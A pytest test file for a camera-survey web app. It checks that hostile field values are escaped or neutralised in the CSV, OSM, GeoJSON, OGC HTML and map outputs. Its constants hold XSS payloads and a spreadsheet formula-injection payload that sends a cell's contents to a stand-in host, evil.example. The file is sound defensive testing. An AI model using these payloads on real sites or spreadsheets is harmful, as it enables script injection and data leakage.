"""Hostile text in every published field: shown as text on the map and the OGC pages, neutralised in CSV,
escaped in OSM XML. Payloads that would run would also trip the CSP, which the browser reports."""

import csv
import io
import xml.etree.ElementTree as ET

import pytest

from survey.publish.downloads import FORMULA_STARTS
from tests.support import camera_from_upload

XSS = '<img src=x onerror="document.body.dataset.pwned=1">'
BREAKOUT = '"><script>document.body.dataset.pwned=2</script>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
HOSTILE = {"manufacturer": XSS, "model": BREAKOUT, "operator": FORMULA}
MORE_FORMULAS = ["+SUM(1,2)", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]


def _number(cell: str) -> bool:
    """A plain number such as a western longitude, which a spreadsheet reads as a number, not a formula."""
    try:
        float(cell)
        return True
    except ValueError:
        return False


@pytest.fixture
def hostile_camera(client, app):
    return camera_from_upload(
        client, app, camera_fields={**HOSTILE, "lat": 51.5033, "lon": -0.1196}, notes=FORMULA, operator=XSS
    )


def test_csv_cells_never_start_a_formula(client, app, hostile_camera):
    for i, value in enumerate(MORE_FORMULAS):
        camera_from_upload(client, app, seed=10 + i, camera_fields={"operator": value, "manufacturer": value})
    body = client.get("/api/v1/cameras.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body)))
    assert len(rows) == 1 + 1 + len(MORE_FORMULAS)
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _number(cell)]
    assert "'" + FORMULA in cells and "'+SUM(1,2)" in cells  # kept, but inert
    assert FORMULA not in [c for c in cells if not c.startswith("'")]


def test_osm_and_geojson_carry_the_text_escaped(client, app, hostile_camera):
    root = ET.fromstring(client.get("/api/v1/cameras.osm").data)  # well-formed despite the payloads
    tags = {t.get("k"): t.get("v") for t in root.iter("tag")}
    assert tags["manufacturer"] == XSS and tags["operator"] == FORMULA
    feature = client.get(f"/api/v1/cameras/{hostile_camera['camera_id']}").json
    assert feature["properties"]["manufacturer"] == XSS and feature["properties"]["model"] == BREAKOUT


def test_ogc_html_pages_escape_every_field(client, app, hostile_camera):
    # Only the cameras collection carries a camera's text; streets and signs have their own scans.
    collections = [c for c in client.get("/ogcapi/collections?f=json").json["collections"] if c["id"] == "cameras"]
    for path in [f"/ogcapi/collections/{c['id']}/items?f=html" for c in collections] + [
        f"/ogcapi/collections/{c['id']}/items/{hostile_camera['camera_id']}?f=html" for c in collections
    ]:
        html = client.get(path).get_data(as_text=True)
        assert "<img src=x" not in html and "<script>document" not in html, path
        assert "&lt;img src=x" in html, path


@pytest.fixture
def watched(browser):
    context = browser.new_context(viewport={"width": 390, "height": 844})
    page = context.new_page()
    page.problems = []
    page.on("pageerror", lambda exc: page.problems.append(str(exc)))
    page.on(
        "console",
        lambda m: m.type == "error" and "Failed to load resource" not in m.text and page.problems.append(m.text),
    )
    yield page
    context.close()


def test_map_popup_shows_hostile_text_as_text(watched, live_server, app, client, hostile_camera):
    app.config["TILE_URL"] = live_server.url + "/no-tiles/{z}/{x}/{y}.png"
    watched.goto(f"{live_server.url}/map")
    watched.wait_for_function("() => document.querySelectorAll('.camera-icon').length === 1", timeout=15000)
    watched.locator(f'.leaflet-marker-icon[title^="Camera {hostile_camera["camera_id"]},"]').click()
    popup = watched.locator(".leaflet-popup .camera-popup")
    popup.wait_for(timeout=10000)
    text = popup.inner_text()
    assert "<img src=x" in text and "<script>" in text and FORMULA in text
    assert watched.locator(".leaflet-popup img[src='x'], .leaflet-popup script").count() == 0
    assert watched.evaluate("() => document.body.dataset.pwned") is None
    assert watched.problems == []
